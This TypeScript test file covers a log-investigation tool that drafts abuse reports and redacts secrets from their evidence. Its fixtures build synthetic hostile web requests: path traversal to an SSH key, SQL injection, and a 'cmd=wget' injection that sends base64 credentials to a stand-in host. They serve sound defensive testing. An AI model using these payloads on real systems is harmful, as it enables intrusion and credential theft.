import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { investigateFiles, LogWriter } from '../../../test/scenario.ts';
import { createDispatch } from '../../decode/dispatch.ts';
import { parsers } from '../../parsers/index.ts';
import type { Attacker, Story } from '../../trace/story.ts';
import { at, emptyStory, entry, guesser, session } from '../fixtures/pieces.ts';
import { findCases, type NetworkCase } from './cases.ts';
import type { Contacts } from './contact.ts';
import { abuseDrafts, fileNameOf } from './drafts.ts';
import { lineReader } from './line-reader.ts';
import { readReporter } from './reporter.ts';

const DISPATCH = createDispatch(parsers);
const reporter = readReporter('Mina Park <abuse@mill.example>', undefined);
const A = '203.0.113.5';

function casesOf(story: Story, keep: readonly string[] = []) {
  const readLine = lineReader({
    dispatch: DISPATCH,
    zone: 'UTC',
    hostZones: {},
    endMs: Date.parse('2026-05-20T12:00:00Z'),
  });
  return findCases(story, { keep, readLine });
}

function draftsOf(
  story: Story,
  contacts: (networks: readonly NetworkCase[]) => ReadonlyMap<NetworkCase, Contacts> = () => new Map(),
) {
  const { networks, spared } = casesOf(story);
  return abuseDrafts(story, { networks, spared, reporter, contacts: contacts(networks), hostZones: {} });
}

const seen = (address: string, part: Partial<Attacker> = {}): Attacker =>
  guesser(address, 30, {
    evidence: [at('log', 1, `Mar  2 00:14:09 gate sshd[7]: Failed password for root from ${address} port 40022 ssh2`)],
    ...part,
  });
const storyOf = (attackers: readonly Attacker[], part: Partial<Story> = {}): Story => ({
  ...emptyStory,
  attackers,
  block: attackers.map(({ address }) => address),
  ...part,
});
const reported = (story: Story, keep: readonly string[] = []): string[] =>
  casesOf(story, keep).networks.flatMap(({ cases }) => cases.map(({ address }) => address));

describe('who is reported', () => {
  test('nobody that is private, kept, not on the block list, or had a good login', () => {
    const story = storyOf(
      ['10.0.0.7', '192.168.1.2', 'fd00::1', A, '203.0.113.6', '203.0.113.7', '203.0.113.8'].map((one) => seen(one)),
      {
        sessions: [
          session({ id: 's1', host: 'gate', user: 'anna', address: '203.0.113.7', start: '2026-03-02T00:00:00Z' }),
        ],
      },
    );
    expect(reported(story, ['203.0.113.6/31'])).toEqual([A, '203.0.113.8']);
    expect(reported({ ...story, block: [A] })).toEqual([A]);
    expect(reported(storyOf([seen(A, { successes: 1 })]))).toEqual([]);
  });

  test('an intruder’s address, but not on slight grounds', () => {
    const from = (address: string, confidence: 'high' | 'low') =>
      entry({
        id: address,
        host: 'gate',
        user: 'anna',
        address,
        confidence,
        evidence: [at('log', 1, `Accepted password for anna from ${address} port 1 ssh2`)],
      });
    const story = storyOf([], { entries: [from(A, 'high'), from('203.0.113.6', 'low')], block: ['203.0.113.4/30'] });
    expect(reported(story)).toEqual([A]);
  });

  test('one letter for a network; without its number, for the /24 or /48', () => {
    const place = { asn: 64500, organisation: 'Example Hosting' };
    const story = storyOf([
      seen(A),
      seen('198.51.100.1', { place }),
      seen('192.0.2.1', { place }),
      seen('2001:db8:1:2::3'),
      seen('2001:db8:1:4::5'),
    ]);
    const names = [...draftsOf(story).keys()].filter((name) => name.endsWith('.txt'));
    expect(names.sort()).toEqual([
      'AS64500-example-hosting.txt',
      'README.txt',
      'net-2001-db8-1-48.txt',
      'net-203.0.113.0-24.txt',
    ]);
  });

  test('many addresses: a table of some, all in a CSV file, a report for each', () => {
    const place = { asn: 64500, organisation: 'Example' };
    const files = draftsOf(storyOf(Array.from({ length: 120 }, (_, last) => seen(`203.0.113.${last}`, { place }))));
    expect(files.get('AS64500-example.csv')?.trim().split('\r\n')).toHaveLength(121);
    expect(files.get('AS64500-example.txt')).toContain('and 70 more addresses: all are in AS64500-example.csv');
    expect([...files.keys()].filter((name) => name.endsWith('.xarf.json'))).toHaveLength(120);
  });
});

test('names of files are safe, whatever an organisation is called', () => {
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string({ unit: 'binary' }),
        fc.constantFrom('../../etc/passwd', '..', 'CON', 'a\0b', 'Ünïcode Ltd.', '株式会社', 'x'.repeat(999)),
      ),
      (organisation) => {
        expect(fileNameOf({ asn: 64500, organisation, range: '', cases: [] })).toMatch(/^AS64500(?:-[a-z0-9]+)*$/);
      },
    ),
  );
  expect(fileNameOf({ asn: 1, organisation: 'Ünïcode  Ltd.', range: '', cases: [] })).toBe('AS1-u-ni-code-ltd');
});

test('contacts stand in the letter and the index, several with their ranges, none with the reason', () => {
  const story = storyOf([seen(A), seen('198.51.100.1'), seen('192.0.2.1')]);
  const contact = (mail: string, range: string) => ({
    mails: [mail],
    range,
    name: 'X',
    from: 'rdap.example',
    addresses: [A],
  });
  const files = draftsOf(
    story,
    (networks) =>
      new Map(
        networks.map((one, index) => [
          one,
          [
            { found: [contact('abuse@a.example', 'r1')], problem: '' },
            { found: [contact('abuse@a.example', 'r1'), contact('abuse@b.example', 'r2')], problem: '' },
            { found: [], problem: 'rdap.example: it does not answer in time' },
          ][index] as Contacts,
        ]),
      ),
  );
  expect(files.get('net-203.0.113.0-24.txt')).toMatch(
    /^To: abuse@a\.example\nFrom: Mina Park <abuse@mill\.example>\nSubject: /,
  );
  expect(files.get('net-198.51.100.0-24.txt')).toMatch(
    /^To: abuse@a\.example, abuse@b\.example\nNote: abuse@a\.example is for r1/,
  );
  expect(files.get('net-192.0.2.0-24.txt')).toMatch(/^To: \[unknown: rdap\.example: it does not answer in time\]\n/);
  expect(files.get('README.txt')).toContain('to: abuse@a.example, abuse@b.example');
});

/** All that anybody could read in a set of files: escapes undone, base64 opened. */
function readings(files: ReadonlyMap<string, string>): string {
  const texts = [...files].flatMap(([name, text]) => {
    if (!name.endsWith('.xarf.json')) return [text];
    const { evidence } = JSON.parse(text) as { evidence: { payload: string }[] };
    return [text, ...evidence.map(({ payload }) => Buffer.from(payload, 'base64').toString())];
  });
  const decoded = texts.flatMap((text) => {
    const once = text.replace(/%([0-9a-f]{2})/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)));
    const inner = [...text.matchAll(/[A-Za-z0-9+/_-]{8,400}={0,2}/g)].map(([word]) =>
      Buffer.from(word, 'base64').toString('latin1'),
    );
    return [text, once, ...inner];
  });
  return decoded.join('\n').toLowerCase();
}

const name = fc.stringMatching(/^[a-z]{7,10}$/);
const secrets = fc.record({
  user: name,
  other: name,
  host: name,
  site: name,
  password: fc.stringMatching(/^[A-Z][a-z]{4,8}[0-9]{2,4}!$/),
  token: fc.stringMatching(/^[A-Za-z0-9]{6,24}$/).filter((token) => /[a-z]/.test(token) && token.length > 5),
  mail: name,
});
type Secrets = typeof secrets extends fc.Arbitrary<infer T> ? T : never;

function logsOf({ user, other, host, site, password, token, mail }: Secrets): Record<string, string> {
  const log = new LogWriter(host, '2026-05-19T08:00:00Z')
    .life(30)
    .enters('198.51.100.77', user, 900, 'publickey')
    .sudo(user, '/usr/bin/id')
    .leaves(user, 900);
  for (let pid = 1000; pid < 1012; pid += 1) log.fails(A, pid % 2 ? user : other, pid, 3);
  for (const tried of ['oracle', password, 'postgres'])
    log
      .say('sshd[2000]', `Invalid user ${tried} from ${A} port 50001`)
      .say('sshd[2000]', `Failed password for invalid user ${tried} from ${A} port 50001 ssh2`);
  const basic = Buffer.from(`${user}:${password}`).toString('base64');
  const encoded = [...user].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join('');
  const web = [
    `/../../../../home/${user}/.ssh/id_rsa`,
    `/.env?token=${token}&x=1`,
    `/?q=${encoded}'+UNION+SELECT+1,2--+`,
    `/?cmd=wget+http://x.invalid/${basic}`,
    `/?reset=${mail}@${site}.example&password=${password}`,
    `/?next=http://10.9.8.7/&to=198.51.100.77'+OR+1=1--`,
  ].map(
    (url, at) =>
      `203.0.113.6 - - [19/May/2026:09:00:${10 + at} +0000] "GET ${url} HTTP/1.1" 404 10 "https://www.${site}.example/" "probe/1"`,
  );
  return { [`${host}/var/log/auth.log`]: log.text(), [`${host}/var/log/nginx/access.log`]: `${web.join('\n')}\n` };
}

test('no secret of the evidence survives in any file, in any form', async () => {
  await fc.assert(
    fc.asyncProperty(secrets, async (own) => {
      fc.pre(new Set(Object.values(own).map((value) => value.toLowerCase())).size === 7);
      const story = await investigateFiles(logsOf(own));
      const files = draftsOf({ ...story, attackers: story.attackers });
      expect([...files.keys()].filter((file) => file.endsWith('.xarf.json')).length).toBe(2);
      const read = readings(files);
      for (const secret of [...Object.values(own), '10.9.8.7', '198.51.100.77'])
        expect(read).not.toContain(secret.toLowerCase());
      expect(read).toContain('[user-1]');
    }),
    { numRuns: 12 },
  );
});

test('a name that was only tried stays', async () => {
  const story = await investigateFiles({
    'gate/var/log/auth.log': new LogWriter('gate', '2026-05-19T08:00:00Z')
      .say('sshd[1]', `Invalid user oracle from ${A} port 50001`)
      .fails(A, 'invalid user oracle', 1, 9)
      .text(),
  });
  const text = draftsOf(story).get('net-203.0.113.0-24.txt');
  expect(text).toContain('Invalid user oracle from');
  expect(text).toContain('1 host or site name');
});
